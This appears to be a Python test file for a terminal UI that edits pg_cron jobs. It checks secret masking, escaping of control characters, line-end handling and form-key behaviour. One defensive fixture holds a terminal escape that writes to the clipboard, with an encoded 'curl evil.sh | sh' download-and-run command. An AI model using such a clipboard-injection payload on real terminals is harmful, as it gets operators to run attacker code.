"""The edit / new form as an operator meets it on an incident call (issue 18, items 7 and 8;
issue 12, item 1 for the form): secrets masked until asked for, control characters shown
escaped, the keys of the form in its footer, and no change lost or saved by surprise."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from textual.pilot import Pilot
from textual.widgets import Input, Label, Static, TextArea
from textual.widgets._footer import FooterKey

from tests.conftest import Cluster
from tests.corpus.secrets import SECRETS
from tests.ui.conftest import NEVER, dialog_ready, running_app, select_job, unique, wait_for
from tui.masking import MASK
from tui.ui.app import CronJobsApp
from tui.ui.screens.form import JobFormScreen

BEARER = next(s for s in SECRETS if s.kind == "bearer-jwt")
ROLE_PW = next(s for s in SECRETS if s.kind == "alter-role")
# weekly-adapter-check's shape: an HTTP call with a service key, plus a role rotation
COMMAND = (
    "select net.http_post(url := 'https://abc.supabase.co/functions/v1/adapter-health',\n"
    f"  headers := {BEARER.text});\n"
    f"{ROLE_PW.text};"
)
SECRET_VALUES = (BEARER.secret, ROLE_PW.secret)


def command_of(cluster: Cluster, jobid: int) -> str:
    return cluster.value("select command from cron.job where jobid = %s", [jobid])


async def open_form(app: CronJobsApp, pilot: Pilot[Any], name: str) -> JobFormScreen:
    await select_job(app, pilot, name)
    await pilot.press("e")
    # Pushed is not yet composed: under load the fields mount a few frames later.
    await wait_for(pilot, lambda: isinstance(app.screen, JobFormScreen)
                   and bool(app.screen.query("#schedule")) and bool(app.screen.query("#command")))
    await pilot.pause(0.1)
    assert isinstance(app.screen, JobFormScreen)
    return app.screen


def command_area(form: JobFormScreen) -> TextArea:
    return form.query_one("#command", TextArea)


async def test_the_form_masks_secrets_and_saves_them_unchanged(
        cluster: Cluster, make_job: Callable[..., tuple[int, str]]) -> None:
    jobid, name = make_job(COMMAND)
    async with running_app(cluster) as (app, pilot):
        form = await open_form(app, pilot, name)
        shown = command_area(form).text
        assert MASK in shown
        for secret in SECRET_VALUES:
            assert secret not in shown
        assert "abc.supabase.co/functions/v1/adapter-health" in shown  # readable
        assert "secrets masked (Ctrl+R shows them)" in str(
            form.query_one("#command-help", Static).render())
        # Only the schedule changes: the command saved is the job's own, secrets and all.
        form.query_one("#schedule", Input).value = "0 4 * * *"
        await pilot.press("ctrl+s")
        await wait_for(pilot, lambda: not isinstance(app.screen, JobFormScreen))
        assert command_of(cluster, jobid) == COMMAND

        # The operator edits the masked command: the masks go back to their secrets.
        form = await open_form(app, pilot, name)
        area = command_area(form)
        area.focus()
        area.move_cursor(area.document.end)
        await pilot.press(*" -- checked")
        await pilot.press("ctrl+s")
        await wait_for(pilot, lambda: not isinstance(app.screen, JobFormScreen))
    saved = command_of(cluster, jobid)
    assert saved == COMMAND + " -- checked"
    assert MASK not in saved


async def test_reveal_is_an_explicit_key_shown_in_the_footer(
        cluster: Cluster, make_job: Callable[..., tuple[int, str]]) -> None:
    jobid, name = make_job(COMMAND)
    async with running_app(cluster) as (app, pilot):
        form = await open_form(app, pilot, name)
        keys = {key.action: key.key_display for key in form.query(FooterKey)}
        assert "reveal" in keys
        await pilot.press("ctrl+r")
        assert command_area(form).text == COMMAND
        await pilot.press("ctrl+r")  # and hidden again
        shown = command_area(form).text
        assert all(secret not in shown for secret in SECRET_VALUES)
        await pilot.press("ctrl+r")
        # Revealed and edited: saved as typed.
        area = command_area(form)
        area.text = area.text.replace(ROLE_PW.secret, "N3w-Pa55-" + "x" * 8)
        await pilot.press("ctrl+s")
        await wait_for(pilot, lambda: not isinstance(app.screen, JobFormScreen))
    assert command_of(cluster, jobid) == COMMAND.replace(ROLE_PW.secret, "N3w-Pa55-xxxxxxxx")


async def test_a_mask_deleted_from_the_command_is_never_saved(
        cluster: Cluster, make_job: Callable[..., tuple[int, str]]) -> None:
    jobid, name = make_job(COMMAND)
    async with running_app(cluster) as (app, pilot):
        form = await open_form(app, pilot, name)
        area = command_area(form)
        before, _, _ = area.text.partition(MASK)
        row = before.count("\n")
        column = len(before.rsplit("\n", 1)[-1]) + len(MASK)
        area.focus()
        area.move_cursor((row, column))
        await pilot.press("backspace")  # one dot of the mask gone
        assert MASK not in area.text.split("\n")[row][column - len(MASK):column]
        await pilot.press("ctrl+s")
        await pilot.pause(0.3)
        assert isinstance(app.screen, JobFormScreen)
        assert "mask" in str(form.query_one("#error", Static).render())
        await pilot.press("ctrl+z")  # undo puts the mask back; the message goes
        await wait_for(pilot, lambda: str(form.query_one("#error", Static).render()) == "")
    assert command_of(cluster, jobid) == COMMAND


async def test_control_characters_are_shown_escaped_and_saved_as_typed(
        cluster: Cluster, make_job: Callable[..., tuple[int, str]]) -> None:
    # A command that would write the operator's clipboard (OSC 52) and ring the bell.
    hostile = "select 1 -- \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 done"
    jobid, name = make_job(hostile)
    async with running_app(cluster) as (app, pilot):
        form = await open_form(app, pilot, name)
        shown = command_area(form).text
        assert "\x1b" not in shown and "\x07" not in shown
        assert "\\x1b]52;c;" in shown and "\\x07" in shown
        # Left as it was: the job keeps its command byte for byte.
        form.query_one("#schedule", Input).value = "0 5 * * *"
        await pilot.press("ctrl+s")
        await wait_for(pilot, lambda: not isinstance(app.screen, JobFormScreen))
        assert command_of(cluster, jobid) == hostile
        # Edited: what the operator sees and typed is saved, never the hidden bytes.
        form = await open_form(app, pilot, name)
        area = command_area(form)
        area.focus()
        area.move_cursor(area.document.end)
        await pilot.press("!")
        await pilot.press("ctrl+s")
        await wait_for(pilot, lambda: not isinstance(app.screen, JobFormScreen))
    saved = command_of(cluster, jobid)
    assert "\x1b" not in saved and "\x07" not in saved
    assert saved == "select 1 -- \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 done!"


async def test_windows_line_ends_are_not_turned_into_text(
        cluster: Cluster, make_job: Callable[..., tuple[int, str]]) -> None:
    # Written from a Windows tool: CRLF line ends. Shown as lines, saved as lines.
    jobid, name = make_job("select 1;\r\nselect 2;\r\n")
    async with running_app(cluster) as (app, pilot):
        form = await open_form(app, pilot, name)
        area = command_area(form)
        assert area.text == "select 1;\nselect 2;\n"
        area.focus()
        area.move_cursor(area.document.end)
        await pilot.press(*"select 3;")
        await pilot.press("ctrl+s")
        await wait_for(pilot, lambda: not isinstance(app.screen, JobFormScreen))
    assert command_of(cluster, jobid) == "select 1;\nselect 2;\nselect 3;"


async def test_tab_leaves_the_command_and_ctrl_t_indents(
        cluster: Cluster, make_job: Callable[..., tuple[int, str]]) -> None:
    jobid, name = make_job("select 1")
    async with running_app(cluster) as (app, pilot):
        form = await open_form(app, pilot, name)
        area = command_area(form)
        area.focus()
        area.move_cursor((0, 0))
        await pilot.press("ctrl+t")
        assert area.text == "    select 1"
        assert "Ctrl+T: indent" in str(form.query_one("#command-help", Static).render())
        assert "indent" in {key.action for key in form.query(FooterKey)}
        await pilot.press("tab")
        assert area.text == "    select 1"  # Tab inserted nothing
        assert form.focused is form.query_one("#database", Input)


async def test_escape_asks_before_discarding_changes(
        cluster: Cluster, make_job: Callable[..., tuple[int, str]]) -> None:
    jobid, name = make_job("select 1")
    async with running_app(cluster) as (app, pilot):
        # Nothing changed: Escape closes at once.
        form = await open_form(app, pilot, name)
        await pilot.press("escape")
        await wait_for(pilot, lambda: not isinstance(app.screen, JobFormScreen))
        # Changed, focus in the command: Escape, then Escape again (the old way out of the
        # editor) never discards without a question.
        form = await open_form(app, pilot, name)
        area = command_area(form)
        area.focus()
        area.move_cursor(area.document.end)
        await pilot.press(*" + 1")
        await pilot.press("escape")
        await wait_for(pilot, lambda: dialog_ready(app))
        assert app.screen.focused.id == "cancel"
        await pilot.press("escape")  # the second Escape answers "keep editing"
        await wait_for(pilot, lambda: app.screen is form)
        assert area.text == "select 1 + 1"
        await pilot.press("escape")
        await wait_for(pilot, lambda: dialog_ready(app))
        await pilot.press("tab", "enter")  # Discard
        await wait_for(pilot, lambda: not isinstance(app.screen, JobFormScreen))
    assert command_of(cluster, jobid) == "select 1"


async def test_footer_labels_and_validation_messages(cluster: Cluster) -> None:
    async with running_app(cluster) as (app, pilot):
        await pilot.press("n")
        await wait_for(pilot, lambda: isinstance(app.screen, JobFormScreen))
        await pilot.pause(0.1)
        form = app.screen
        assert isinstance(form, JobFormScreen)
        # The footer is the form's: save and cancel, not the main screen's keys.
        keys = {key.action: key.key_display for key in form.query(FooterKey)}
        assert {"save", "cancel"} <= set(keys)
        assert "trigger" not in keys and "delete" not in keys
        labels = [str(label.render()) for label in form.query(Label)]
        assert "Database" in labels and "Run as role" in labels
        # A message goes once its cause is fixed.
        form.query_one("#command", TextArea).text = "select 1"
        form.query_one("#schedule", Input).value = NEVER
        await pilot.press("ctrl+s")
        error = form.query_one("#error", Static)
        assert str(error.render()) == "A job needs a name."
        form.query_one("#name", Input).focus()
        await pilot.press(*"x")
        await wait_for(pilot, lambda: str(error.render()) == "")
        # The schedule's examples are ones this server accepts (seconds from 1.5 on).
        placeholder = form.query_one("#schedule", Input).placeholder
        assert ("30 seconds" in placeholder) == (cluster.pg_cron != "1.4")
        assert "@daily" in placeholder


async def test_a_new_job_with_a_secret_is_saved_as_typed(cluster: Cluster) -> None:
    name = unique("rotate")
    command = ROLE_PW.text
    try:
        async with running_app(cluster) as (app, pilot):
            await pilot.press("n")
            await wait_for(pilot, lambda: isinstance(app.screen, JobFormScreen))
            form = app.screen
            await pilot.press(*name)
            form.query_one("#schedule", Input).value = NEVER
            form.query_one("#command", TextArea).text = command
            await pilot.press("ctrl+s")
            await wait_for(pilot, lambda: not isinstance(app.screen, JobFormScreen))
        assert cluster.value("select command from cron.job where jobname = %s",
                             [name]) == command
    finally:
        cluster.sql("select cron.unschedule(jobid) from cron.job where jobname = %s", [name])
